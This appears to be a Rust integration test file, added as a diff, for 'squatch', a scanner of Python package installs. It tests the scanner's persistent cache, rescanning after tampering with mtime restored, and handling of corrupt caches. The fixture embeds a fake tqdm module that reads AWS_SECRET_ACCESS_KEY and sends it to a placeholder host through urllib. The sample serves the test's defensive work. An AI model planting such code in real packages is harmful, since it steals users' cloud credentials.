@@ -1,0 +1,244 @@
+//! The persistent cache across processes: a second `squatch query` is served
+//! from `<state_dir>/cache/`, a file tampered with its mtime put back is
+//! rescanned and re-verified, a corrupt or foreign cache is thrown away,
+//! `--no-cache` writes nothing, and nothing is ever written inside --root.
+
+mod common;
+
+use std::collections::BTreeMap;
+use std::os::unix::fs::MetadataExt;
+use std::path::{Path, PathBuf};
+use std::process::Command;
+
+use common::FakeHost;
+
+const FINDINGS: &str = "SELECT path, rule_id FROM python_install_findings WHERE rule_id != ''";
+const PROVENANCE: &str =
+    "SELECT name, record_status, files_modified FROM python_package_provenance";
+
+struct Run {
+    stdout: String,
+    stderr: String,
+}
+
+fn squatch(root: &Path, state: &Path, extra: &[&str], sql: &str) -> Run {
+    let out = Command::new(env!("CARGO_BIN_EXE_squatch"))
+        .arg("--root")
+        .arg(root)
+        .arg("--state-dir")
+        .arg(state)
+        .args(extra)
+        .args(["--verbose", "query", "--json", sql])
+        .env("RUST_LOG", "squatch=debug")
+        .output()
+        .expect("run squatch");
+    let run = Run {
+        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
+        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
+    };
+    assert!(out.status.success(), "squatch failed: {}", run.stderr);
+    run
+}
+
+/// (loaded, hits, misses) from the debug line the cache logs at the end.
+fn stats(run: &Run) -> (u64, u64, u64) {
+    let line = run
+        .stderr
+        .lines()
+        .rev()
+        .find(|l| l.contains("persistent cache: ") && l.contains(" hits"))
+        .unwrap_or_else(|| panic!("no cache stats line in: {}", run.stderr));
+    let nums: Vec<u64> = line
+        .split("persistent cache: ")
+        .nth(1)
+        .unwrap()
+        .split(|c: char| !c.is_ascii_digit())
+        .filter(|s| !s.is_empty())
+        .map(|s| s.parse().unwrap())
+        .collect();
+    (nums[0], nums[1], nums[2])
+}
+
+fn rows(run: &Run) -> Vec<BTreeMap<String, String>> {
+    serde_json::from_str(&run.stdout).unwrap_or_else(|e| panic!("{e}: {}", run.stdout))
+}
+
+/// Every path below `dir` with its (size, mtime, ctime): a snapshot that
+/// changes if anything is written there.
+fn snapshot(dir: &Path) -> BTreeMap<PathBuf, (u64, i64, i64, i64)> {
+    let mut out = BTreeMap::new();
+    let mut stack = vec![dir.to_path_buf()];
+    while let Some(d) = stack.pop() {
+        for e in std::fs::read_dir(&d).unwrap() {
+            let e = e.unwrap();
+            let md = std::fs::symlink_metadata(e.path()).unwrap();
+            out.insert(
+                e.path(),
+                (md.size(), md.mtime_nsec(), md.ctime(), md.ctime_nsec()),
+            );
+            if md.is_dir() {
+                stack.push(e.path());
+            }
+        }
+    }
+    out
+}
+
+fn cache_files(state: &Path) -> Vec<PathBuf> {
+    match std::fs::read_dir(state.join("cache")) {
+        Ok(rd) => rd.map(|e| e.unwrap().path()).collect(),
+        Err(_) => Vec::new(),
+    }
+}
+
+struct Fixture {
+    fh: FakeHost,
+    std_py: PathBuf,
+    dirty: Vec<u8>,
+}
+
+fn fixture() -> Fixture {
+    let fh = FakeHost::new();
+    let site = fh.venv("/opt/app/venv", "3.12", false);
+    let dirty = b"import os, urllib.request\nclass tqdm:\n    pass\n_k = os.environ.get(\"AWS_SECRET_ACCESS_KEY\")\nurllib.request.urlopen(\"https://collector.invalid/t?k=\" + str(_k))\n".to_vec();
+    let mut clean = b"class tqdm:\n    pass\n#".to_vec();
+    clean.resize(dirty.len() - 1, b'x');
+    clean.push(b'\n');
+    let d = fh
+        .dist(&site, "tqdm", "4.66.0")
+        .file("tqdm/__init__.py", "from .std import tqdm\n")
+        .file("tqdm/std.py", &clean)
+        .write();
+    for i in 0..5 {
+        fh.dist(&site, &format!("pkg{i}"), "1.0")
+            .file(&format!("pkg{i}/__init__.py"), format!("X = {i}\n"))
+            .file(&format!("pkg{i}/core.py"), "def f():\n    return 1\n")
+            .write();
+    }
+    let std_py = d.file("tqdm/std.py");
+    Fixture { fh, std_py, dirty }
+}
+
+fn tamper_keeping_mtime(real: &Path, bytes: &[u8]) {
+    use std::io::Write;
+    let before = std::fs::metadata(real).unwrap();
+    std::thread::sleep(std::time::Duration::from_millis(30));
+    let mut f = std::fs::OpenOptions::new().write(true).open(real).unwrap();
+    f.write_all(bytes).unwrap();
+    f.set_modified(before.modified().unwrap()).unwrap();
+    drop(f);
+    let after = std::fs::metadata(real).unwrap();
+    assert_eq!(
+        (
+            before.ino(),
+            before.size(),
+            before.mtime(),
+            before.mtime_nsec()
+        ),
+        (after.ino(), after.size(), after.mtime(), after.mtime_nsec())
+    );
+}
+
+#[test]
+fn second_process_hits_and_a_restored_mtime_tamper_is_rescanned() {
+    let fx = fixture();
+    let state = tempfile::tempdir().unwrap();
+    let root = fx.fh.root().to_path_buf();
+    let before = snapshot(&root);
+
+    let first = squatch(&root, state.path(), &[], FINDINGS);
+    assert!(rows(&first).is_empty(), "{}", first.stdout);
+    let (loaded, hits, misses) = stats(&first);
+    assert_eq!((loaded, hits), (0, 0));
+    assert!(misses >= 12, "every module scanned: {misses}");
+    assert_eq!(cache_files(state.path()).len(), 1);
+    let mode = std::fs::metadata(&cache_files(state.path())[0])
+        .unwrap()
+        .mode();
+    assert_eq!(mode & 0o777, 0o600);
+
+    let second = squatch(&root, state.path(), &[], FINDINGS);
+    assert_eq!(second.stdout, first.stdout);
+    let (loaded, hits, misses) = stats(&second);
+    assert!(loaded >= 12, "{loaded}");
+    assert_eq!(misses, 0, "nothing rescanned: {}", second.stderr);
+    assert!(hits >= 12);
+
+    // Provenance: digests are kept too.
+    let p1 = squatch(&root, state.path(), &[], PROVENANCE);
+    assert!(
+        rows(&p1).iter().all(|r| r["record_status"] == "ok"),
+        "{}",
+        p1.stdout
+    );
+    let p2 = squatch(&root, state.path(), &[], PROVENANCE);
+    let (_, hits, misses) = stats(&p2);
+    assert!(hits >= 12 && misses == 0, "{}", p2.stderr);
+    assert!(snapshot(&root) == before, "nothing written inside --root");
+
+    tamper_keeping_mtime(&fx.fh.real(&fx.std_py), &fx.dirty);
+    let before = snapshot(&root);
+
+    let third = squatch(&root, state.path(), &[], FINDINGS);
+    let found = rows(&third);
+    assert!(
+        found.iter().any(|r| r["path"].ends_with("tqdm/std.py")),
+        "tampered file not rescanned: {}",
+        third.stdout
+    );
+    assert_eq!(stats(&third).2, 1, "exactly the tampered file missed");
+    let p3 = squatch(&root, state.path(), &[], PROVENANCE);
+    let tqdm = rows(&p3).into_iter().find(|r| r["name"] == "tqdm").unwrap();
+    assert_eq!(tqdm["record_status"], "modified", "{}", p3.stdout);
+
+    assert!(snapshot(&root) == before, "nothing written inside --root");
+}
+
+#[test]
+fn corrupt_and_foreign_caches_are_discarded() {
+    let fx = fixture();
+    let state = tempfile::tempdir().unwrap();
+    let root = fx.fh.root();
+    let first = squatch(root, state.path(), &[], FINDINGS);
+    let file = cache_files(state.path()).pop().unwrap();
+    let good = std::fs::read_to_string(&file).unwrap();
+    for bad in [
+        "{\"format\":1,".to_string(),
+        good.replacen(env!("CARGO_PKG_VERSION"), "0.0.0-older", 1),
+        good.replace("tqdm/std.py\"", "tqdm/std.py\"]]]"),
+    ] {
+        std::fs::write(&file, bad).unwrap();
+        let run = squatch(root, state.path(), &[], FINDINGS);
+        assert_eq!(run.stdout, first.stdout);
+        assert_eq!(stats(&run).0, 0, "nothing loaded from a bad cache");
+        assert!(run.stderr.contains("starting empty"), "{}", run.stderr);
+        // And it was rewritten whole: the next run hits.
+        let again = squatch(root, state.path(), &[], FINDINGS);
+        assert_eq!(stats(&again).2, 0, "{}", again.stderr);
+    }
+}
+
+#[test]
+fn no_cache_and_unusable_state_dirs_write_nothing() {
+    let fx = fixture();
+    let state = tempfile::tempdir().unwrap();
+    let root = fx.fh.root().to_path_buf();
+    let run = squatch(&root, state.path(), &["--no-cache"], FINDINGS);
+    assert!(!run.stderr.contains("persistent cache"), "{}", run.stderr);
+    assert!(cache_files(state.path()).is_empty());
+
+    // A state dir inside an examined root: no cache, the root untouched.
+    let before = snapshot(&root);
+    let inside = root.join("var/lib/squatch");
+    let run = squatch(&root, &inside, &[], FINDINGS);
+    assert!(
+        run.stderr.contains("persistent cache off"),
+        "{}",
+        run.stderr
+    );
+    assert_eq!(snapshot(&root), before);
+
+    // An unwritable state dir: the query still answers.
+    let run = squatch(&root, Path::new("/proc/self/squatch-none"), &[], FINDINGS);
+    assert!(run.stderr.contains("not written"), "{}", run.stderr);
+}
